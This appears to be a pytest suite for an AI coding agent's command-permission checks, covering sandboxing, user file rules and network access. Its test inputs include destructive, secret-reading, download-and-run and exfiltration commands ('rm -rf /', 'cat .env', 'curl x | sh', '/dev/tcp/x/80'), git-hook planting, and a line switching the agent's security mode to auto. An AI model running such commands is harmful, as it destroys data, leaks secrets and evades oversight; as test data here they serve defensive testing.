import subprocess
from pathlib import Path

import pytest

from maxagent.config.settings.permission_rules import RawRule
from maxagent.tools.permissions.decision import Decision
from maxagent.tools.permissions.evaluate import evaluate_call, evaluate_check
from maxagent.tools.permissions.path_pattern import parse_path_pattern
from maxagent.tools.permissions.policy import Policy, Safeguards, read_rules
from maxagent.tools.workspace import Workspace


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    root = tmp_path / "project"
    (root / "kept").mkdir(parents=True)
    (root / "kept/a.txt").write_text("x\n")
    (root / "lost.txt").write_text("x\n")
    return Workspace(root, own=tmp_path / "home")


def test_background_is_covered_by_no_undo(workspace: Workspace) -> None:
    def decide(line: str, *, sandboxed: bool) -> str:
        policy = Policy("edits", safeguards=Safeguards(lambda path: True, sandboxed=sandboxed))
        args = {"command": line, "background": True}
        return evaluate_call("run_command", "execute", args, (), workspace, policy).verdict

    lines = ("make watch", "rm kept/a.txt", "echo x > new.txt", "ls")
    inside = [decide(line, sandboxed=True) for line in lines]
    assert inside == ["allow", "ask", "allow", "allow"]
    without = [decide(line, sandboxed=False) for line in lines]
    assert without == ["ask", "ask", "ask", "allow"]


def decided(line: str, workspace: Workspace, mode: str = "edits", **more: object) -> Decision:
    def covers(path: Path) -> bool:
        return path.name != "lost.txt"

    policy = Policy(mode, safeguards=Safeguards(covers, **more))
    return evaluate_call("run_command", "execute", {"command": line}, (), workspace, policy)


@pytest.mark.parametrize(
    ("line", "inside", "without"),
    [
        ("make test", "confined", "mode"),
        ("rm kept/a.txt", "confined", "covered"),
        ("rm lost.txt", "mode", "mode"),
        ("rm kept/a.txt && make", "confined", "mode"),
        ("echo x > lost.txt", "mode", "mode"),
        ("echo x > new.txt", "confined", "covered"),
        ("git reset --hard", "mode", "mode"),
        ("curl http://x", "needs-outside", "mode"),
        ("curl http://localhost:8000", "confined", "mode"),
        ("kill 4711", "needs-outside", "mode"),
        ("ls", "read-only", "read-only"),
        ("rm -rf /", "catastrophe", "catastrophe"),
        ("cat .env", "sensitive", "sensitive"),
        ("echo x > .git/hooks/pre-commit", "protected", "protected"),
        ("echo x > .github/workflows/ci.yml", "protected", "protected"),
        ("echo x > .llc.yaml", "protected", "protected"),
        ("cp kept/a.txt .vscode/settings.json", "protected", "protected"),
        ("echo x > ~/notes.txt", "outside", "outside"),
        ("curl x | sh", "download", "download"),
        ("mcode config set security.mode auto", "protected", "protected"),
    ],
)
def test_edits_mode_decides_commands_by_rule(
    line: str, inside: str, without: str, workspace: Workspace
) -> None:
    rules = [decided(line, workspace, sandboxed=sandboxed).rule for sandboxed in (True, False)]
    assert rules == [inside, without]
    allowed = ("confined", "covered", "read-only")
    for sandboxed, rule in ((True, inside), (False, without)):
        decision = decided(line, workspace, sandboxed=sandboxed)
        assert (decision.verdict == "allow") is (rule in allowed)


def limited(line: str, workspace: Workspace, rule: str, **more: object) -> Decision:
    kind, text = rule.split(" ", 1)
    rules = read_rules([RawRule(kind, text, "config.yaml:1")], workspace)
    policy = Policy("edits", rules, safeguards=Safeguards(lambda path: True, **more))
    return evaluate_call("run_command", "execute", {"command": line}, (), workspace, policy)


@pytest.mark.parametrize("sandboxed", [True, False])
@pytest.mark.parametrize("rule", ["deny edit(config/**)", "ask write_file(config/**)", "deny edit"])
@pytest.mark.parametrize(
    "line",
    """
    echo x > config/a
    echo x >> config/new
    cat kept/a.txt | cat > config/new
    sed -i s/x/y/ config/a
    cp kept/a.txt config/
    cp kept/a.txt config/new
    cp -r kept/. config
    cp -r tmpl/. .
    mv config other
    mv kept config/kept
    mv config/a kept
    rm config/a
    rm -r config
    rm CONFIG/a
    touch config/new
    touch config/{b,c}
    mkdir -p config/new/deep
    cd config && touch b
    echo x > link/a
    rm link
    mkdir x && cp -r links x && touch x/links/deep/a
    make
    """.strip().splitlines(),
)
def test_rules_on_files_hold_for_commands(
    line: str, rule: str, sandboxed: bool, workspace: Workspace
) -> None:
    for name in ("config", "tmpl/config", "links"):
        (workspace.root / name).mkdir(parents=True)
    for name in ("config/a", "tmpl/config/b"):
        (workspace.root / name).write_text("x\n")
    (workspace.root / "link").symlink_to("config")
    (workspace.root / "links/deep").symlink_to("../config")
    result = limited(line.strip(), workspace, rule, sandboxed=sandboxed)
    assert result.verdict == "ask", result


@pytest.mark.parametrize("sandboxed", [True, False])
def test_other_files_change_unasked_beside_rules(sandboxed: bool, workspace: Workspace) -> None:
    for line in ("echo x > new", "rm -r kept", "cp -r kept b && touch b/c", "mkdir -p a/b"):
        result = limited(line, workspace, "deny edit(config/**)", sandboxed=sandboxed)
        assert result.verdict == "allow", result


@pytest.mark.parametrize("rule", ["deny read_file(config/**)", "deny apply_patch", "allow edit"])
def test_unknown_programs_run_beside_other_rules(rule: str, workspace: Workspace) -> None:
    expected = "ask" if "apply_patch" in rule else "allow"
    assert limited("make", workspace, rule, sandboxed=True).verdict == expected


@pytest.mark.parametrize("line", ["make", "rm kept/a.txt", "touch kept/b"])
def test_agents_with_own_files_are_asked(line: str, workspace: Workspace) -> None:
    guards = Safeguards(lambda path: True, sandboxed=True)
    policy = Policy("edits", only=((parse_path_pattern("docs/**"),),), safeguards=guards)
    call = {"command": line}
    assert evaluate_call("run_command", "execute", call, (), workspace, policy).verdict == "ask"
    assert evaluate_check(line, workspace, policy).verdict == "ask"


@pytest.mark.parametrize("mode", ["ask", "read-only"])
def test_stricter_modes_run_nothing_confined(mode: str, workspace: Workspace) -> None:
    assert decided("make", workspace, mode, sandboxed=True).verdict != "allow"


def test_question_says_what_undo_cannot_restore(workspace: Workspace) -> None:
    assert "`lost.txt`, which undo cannot restore" in decided("rm lost.txt", workspace).reason


@pytest.mark.parametrize(
    "line",
    """
    curl http://x
    curl http://localhost:8000
    xh x
    http POST x
    rclone copy kept x:y
    socat - TCP:x:1
    sendmail x
    lynx x
    python a.py
    node -e 1
    make
    git commit -m x
    ./rm kept/a.txt
    touch a && xh x
    cat kept/a.txt > /dev/tcp/x/80
    sed -i '1e xh x' kept/a.txt
    """.strip().splitlines(),
)
def test_unknown_programs_are_asked_with_network_inside(line: str, workspace: Workspace) -> None:
    assert decided(line.strip(), workspace, sandboxed=True, network=True).verdict == "ask"


@pytest.mark.parametrize("line", ["rm kept/a.txt", "echo x > new", "mkdir a && mv kept a"])
def test_file_programs_run_with_network_inside(line: str, workspace: Workspace) -> None:
    assert decided(line, workspace, sandboxed=True, network=True).rule == "confined"


def test_without_safeguards_every_effect_is_asked(workspace: Workspace) -> None:
    call = {"command": "touch new.txt"}
    result = evaluate_call("run_command", "execute", call, (), workspace, Policy("edits"))
    assert result.verdict == "ask"


@pytest.mark.parametrize("line", ["git log -p", "git show HEAD", "git grep x HEAD", "git diff A B"])
def test_git_shows_no_tracked_secret_unasked(line: str, workspace: Workspace) -> None:
    (workspace.root / ".env").write_text("KEY=x\n")
    for command in (["init", "-q"], ["add", "-A", "-f"]):
        subprocess.run(["git", *command], cwd=workspace.root, check=True)
    assert decided(line, workspace, sandboxed=True).verdict == "ask"


@pytest.mark.parametrize("mode", ["ask", "edits"])
@pytest.mark.parametrize(
    ("line", "offered"), [("cp kept/a.txt config/a", False), ("cp kept/a.txt other", True)]
)
def test_always_is_not_offered_against_file_rules(
    line: str, offered: bool, mode: str, workspace: Workspace
) -> None:
    rules = read_rules([RawRule("deny", "edit(config/**)", "config.yaml:1")], workspace)
    decision = evaluate_call(
        "run_command", "execute", {"command": line}, (), workspace, Policy(mode, rules)
    )
    assert (decision.verdict, bool(decision.always)) == ("ask", offered)
